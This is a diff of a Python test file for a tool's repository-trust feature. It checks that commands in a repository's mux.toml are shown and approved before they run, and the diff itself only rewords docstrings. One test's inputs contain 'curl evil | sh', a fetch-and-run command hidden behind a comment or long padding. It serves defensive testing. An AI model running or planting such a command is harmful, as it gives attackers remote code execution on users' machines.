@@ -1,4 +1,4 @@
-"""`mux-lsp trust`, and what a repository's own `mux.toml` brings about."""
+"""Test `mux-lsp trust`, and the effect of a repository's own `mux.toml`."""
 
 from __future__ import annotations
 
@@ -16,13 +16,13 @@ if TYPE_CHECKING:
 
 @pytest.fixture
 def canary(tmp_path: Path) -> Path:
-    """A file that exists once a command of `mux.toml` has run."""
+    """Return the path of a file that exists once a command of `mux.toml` has run."""
     return tmp_path / "canary"
 
 
 @pytest.fixture
 def toml(terminal: Terminal, canary: Path) -> Iterator[str]:
-    """A `mux.toml` that says something of everything. Nothing of it is trusted at the end."""
+    """Yield a `mux.toml` with every setting. Revoke its trust at the end."""
     touch = f"touch {shlex.quote(str(canary))}"
     text = (
         f'agents = ["sh:{touch}; echo by default > by.txt"]\nsetup = ["{touch}", "echo ready > ready.txt"]\n'
@@ -59,7 +59,7 @@ def test_trusted_it_counts_until_it_says_something_else(terminal: Terminal, toml
     assert [one["state"] for one in run["checks"]] == ["passed"]
     assert canary.exists()
     assert "$ echo ready > ready.txt" in terminal.ok("log", run["id"], "--setup")
-    # Another spelling of the same is the same.
+    # Another spelling of the same values stays trusted.
     (terminal.folder / "mux.toml").write_text("# a comment\n" + toml.replace(" = ", "="))
     assert terminal.run("x", "-a", "sh:cat ready.txt > got.txt")["notices"] == []
     canary.unlink()
@@ -104,7 +104,7 @@ def test_the_terminal_asks(terminal: Terminal, toml: str) -> None:
 
 
 def test_all_of_it_is_shown_before_it_is_trusted(terminal: Terminal) -> None:
-    """What a terminal would not show, a shell runs all the same."""
+    """A shell also runs what a terminal would not show."""
     lines = '"""echo hello # said\\ncurl evil | sh"""'
     long = f"echo {'x' * 1200}; curl evil | sh"
     (terminal.folder / "mux.toml").write_text(
